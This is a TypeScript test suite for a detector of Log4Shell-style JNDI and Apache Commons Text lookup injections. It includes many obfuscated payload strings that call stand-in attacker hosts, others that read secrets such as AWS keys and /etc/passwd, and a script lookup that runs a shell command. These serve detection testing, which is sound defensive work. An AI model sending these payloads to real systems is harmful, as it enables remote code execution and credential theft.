import t from 'tap';
import { detectJndi } from '../../src/detectors/jndi';

// Test vectors written for this project (not copied from any payload corpus).

/** Each must be detected at confidence `high` with a `jndi.` rule. */
const positives: string[] = [
  '${jndi:ldap://attacker.test:1389/Exploit}',
  '${jndi:ldaps://203.0.113.7/x}',
  '${jndi:rmi://198.51.100.2:1099/obj}',
  '${jndi:dns://probe.attacker.test}',
  '${jndi:iiop://203.0.113.9/a}',
  '${jndi:corba://203.0.113.9/a}',
  '${jndi:nds://203.0.113.9/a}',
  '${jndi:nis://203.0.113.9/a}',
  '${jndi:http://attacker.test/a}',
  '${JNDI:LDAP://attacker.test/a}',
  '${JnDi:lDaP://attacker.test/a}',
  'Mozilla/5.0 ${jndi:ldap://attacker.test/ua}',
  'user=${jndi:ldap://attacker.test/${env:USER}}',
  '${jndi:ldap://${sys:java.version}.attacker.test/v}',
  '${jndi:ldap://${hostName}.attacker.test/h}',
  '{"q": "${jndi:ldap://attacker.test/j}"}',
  '<v attr="${jndi:ldap://attacker.test/xml}"/>',
  // Nested obfuscation.
  '${${lower:j}ndi:ldap://attacker.test/a}',
  '${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://attacker.test/a}',
  '${${upper:j}ndi:${upper:l}dap://attacker.test/a}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.test/a}',
  '${${::-j}ndi:rmi://attacker.test/a}',
  '${${env:XYZ:-j}ndi:ldap://attacker.test/a}',
  '${${env:NOPE:-j}${env:NOPE:-n}${env:NOPE:-d}${env:NOPE:-i}${env:NOPE:-:}ldap://attacker.test/a}',
  '${${sys:none:-j}ndi:dns://attacker.test/a}',
  '${${foo:bar:-j}ndi:ldap://attacker.test/a}',
  "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.test/a}",
  '${j${lower:N}di:ldap://attacker.test/a}',
  '${jn${upper:d}i${lower::}ldap://attacker.test/a}',
  '${${lower:${upper:j}}ndi:ldap://attacker.test/a}',
  '${${lower:jndi}:${lower:ldap}://attacker.test/a}',
  '${${lower:j}${lower:n}${lower:d}${upper:\u0131}:ldap://attacker.test/a}',
  '$${::-${jndi:ldap://attacker.test/a}}',
  '${x:-${jndi:ldap://attacker.test/a}}',
  '${env:unset:-${env:unset:-$}{jndi:ldap://attacker.test/a}}',
  // Unterminated (truncated) lookup still shows the intent.
  '${jndi:ldap://attacker.test/a',
  // Nested lookups assembling another lookup's name.
  '${${lower:e}nv:AWS_SECRET_ACCESS_KEY}',
  '${${::-s}ys:user.home}',
  // A value that is nothing but data lookups (blanks and quotes aside): the exfiltration probe.
  '${env:AWS_SECRET_ACCESS_KEY}',
  '${env:USER}',
  '${env:LOGNAME:-nobody}',
  '${sys:user.name}',
  '${ctx:loginId}',
  '${main:0}',
  '${bundle:application:db.password}',
  '${java:version}',
  '${docker:containerId}',
  '${k8s:podName}',
  '${spring:spring.datasource.password}',
  ' "${sys:os.name}" ',
  '${env:USER}${sys:java.vendor}',
  '${lower:${env:HOSTNAME}}',
  // Undefined names with a default inside another lookup evaluate to the default.
  '${${x:-j}${y:-n}${z:-d}${w:-i}:ldap://attacker.test/a}',
  '${${HOME:-j}ndi:ldap://attacker.test/a}',
  '${${unset:-e}nv:AWS_SECRET_ACCESS_KEY}',
  // Apache Commons Text lookups (Text4Shell): code, fetches, file reads, DNS, and decoders whose
  // output is substituted again.
  "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
  "${script:JS:1+1}",
  '${url:UTF-8:http://attacker.test/x}',
  '${url:utf8:https://attacker.test/}',
  '${file:UTF-8:/etc/passwd}',
  '${dns:address|attacker.test}',
  '${dns:canonical-name|attacker.test}',
  '${base64Decoder:JHtzY3JpcHQ6amF2YXNjcmlwdDpqYXZhLmxhbmcuUnVudGltZS5nZXRSdW50aW1lKCkuZXhlYygiaWQiKX0=}',
  '${base64Decoder:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci50ZXN0L2F9}',
  '${urlDecoder:%24%7Bjndi:ldap://attacker.test/a%7D}',
  '${${base64Decoder:am5kaQ==}:ldap://attacker.test/a}',
];

/** Sensitive lookups inside other text (config files, sentences about Log4j), or ill-formed: medium. */
const mediums: string[] = [
  'stage: ${env:STAGE}',
  'user ${env:USER} logged in',
  '${sys:user.home}/app',
  'Log4j can print ${java:version} in a pattern',
  'bucket-${env:ACCOUNT_ID}',
  '${env:NOT A NAME}',
  '$${env:USER}',
];

/** Each must NOT be detected at `high`. */
const negatives: string[] = [
  'hello world',
  '$5 & up',
  '${price}',
  'Total: ${order.total}',
  '`Hello ${name}`',
  '${HOME}/bin',
  '${PATH}:${HOME}',
  'The Log4Shell bug was about JNDI lookups.',
  'jndi:ldap://example.com is a JNDI URL',
  'Use ${lower:X} to lower-case in Log4j patterns',
  'java:comp/env/jdbc/mydb',
  '{"jndi": "ldap"}',
  '${',
  '${}',
  '}{',
  '${a${b${c}}}',
  "${date:yyyy-MM-dd}",
  "O'Brien",
  'Tom & Jerry',
  'https://example.com/path?x=1',
  'export HOME=${env:HOME}',
  '${upper:abc}',
  '$jndi:ldap://x',
  '{jndi:ldap://x}',
  // Shell and Compose defaults, nested or not, build no lookup name
  '${VAR:-${OTHER:-default}}',
  '${A:-${B:-${C:-x}}}',
  '${VAR:-${OTHER}}',
  'Hi ${name:-friend}!',
  // Spring-style placeholders named like Commons Text lookups, with defaults
  '${url:https://example.com}',
  '${script}',
  '${script:default.js}',
  '${file:./config.yml}',
  '${dns:8.8.8.8}',
  'Set ${url} and ${file} in the template',
  '${base64Decoder:SGVsbG8=}',
  '${urlDecoder:a%20b}',
];

t.test('JNDI lookups are detected at high confidence', async (t) => {
  for (const v of positives) {
    const d = detectJndi(v);
    t.equal(d?.confidence, 'high', `high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
    t.ok(d !== undefined && d.rule.startsWith('jndi.'), `rule prefix: ${JSON.stringify(v)}`);
  }
});

t.test('sensitive lookups inside other text are medium', async (t) => {
  for (const v of mediums) {
    const d = detectJndi(v);
    t.equal(d?.confidence, 'medium', `medium: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
    t.equal(d?.rule, 'jndi.sensitive-lookup');
  }
});

t.test('benign values are not high', async (t) => {
  for (const v of negatives) {
    const d = detectJndi(v);
    t.not(d?.confidence, 'high', `not high: ${JSON.stringify(v)} -> ${JSON.stringify(d)}`);
  }
  t.equal(detectJndi('${price}'), undefined);
  t.equal(detectJndi('no lookups here'), undefined);
});

t.test('rules name the form', async (t) => {
  t.equal(detectJndi('${jndi:ldap://a/b}')?.rule, 'jndi.lookup');
  t.equal(detectJndi('${${lower:j}ndi:ldap://a/b}')?.rule, 'jndi.obfuscated-lookup');
  t.equal(detectJndi('${${lower:e}nv:X}')?.rule, 'jndi.nested-lookup');
  t.equal(detectJndi('${lower:ABC}')?.confidence, 'low');
});

t.test('reasons are short and do not echo the input', async (t) => {
  const d = detectJndi('${jndi:ldap://' + 'a'.repeat(500) + '/x}');
  t.equal(d?.confidence, 'high');
  t.ok((d?.reason.length ?? 0) < 200);
  t.notMatch(d?.reason ?? '', /a{40}/);
});

t.test('degenerate inputs never throw', async (t) => {
  const odd = ['', '$', '${', '}', '${${', '${:-', '${::-', '${date:\'', '${lower:', '\ud800${jndi:', '${\u0000}', '${jndi:'];
  for (const v of odd) t.doesNotThrow(() => detectJndi(v), JSON.stringify(v));
});

t.test('adversarial 1 MB inputs return without throwing', async (t) => {
  const MB = 1 << 20;
  const big: Record<string, string> = {
    opens: '${'.repeat(MB / 2),
    closes: '}'.repeat(MB),
    nested: '${'.repeat(MB / 4) + 'x' + '}'.repeat(MB / 4),
    defaults: '${::-'.repeat(MB / 5),
    lowers: '${lower:'.repeat(MB / 8) + 'j' + '}'.repeat(MB / 8),
    wide: '${' + 'x'.repeat(MB) + '}',
    deepWide: '${'.repeat(40) + 'x'.repeat(MB) + '}'.repeat(40),
    many: '${a}'.repeat(MB / 4),
    dollars: '$'.repeat(MB),
    surrogates: '${' + '\ud800'.repeat(MB) + '}',
    // decoder outputs that are lookups again: the re-scans share one budget per call
    decoders: '${base64Decoder:JHtiYXNlNjREZWNvZGVyOkpIdGlZWE5sTmpSRVpXTnZaR1Z5T2twSWN6MTl9}'.repeat(MB / 64),
    urlDecoders: '${urlDecoder:%24%7BurlDecoder:%2524%257B%7D}'.repeat(MB / 48),
  };
  for (const [name, v] of Object.entries(big)) {
    t.doesNotThrow(() => detectJndi(v), name);
  }
  t.equal(detectJndi('x'.repeat(MB) + '${jndi:ldap://a/b}')?.confidence, 'high');
});

t.test('the `{` pre-check: lookups are found wherever the first brace is', async (t) => {
  t.equal(detectJndi('$('.repeat(100)), undefined);
  t.equal(detectJndi('{${jndi:ldap://a.test/x}}')?.confidence, 'high');
  t.equal(detectJndi('${jndi:ldap://a.test/x}')?.confidence, 'high');
  t.equal(detectJndi('a{b}${jndi:ldap://a.test/x}')?.confidence, 'high');
  t.equal(detectJndi('$('.repeat(100) + '${jndi:ldap://a.test/x}')?.confidence, 'high');
  t.equal(detectJndi('$ {jndi:ldap://a.test/x}'), undefined);
});
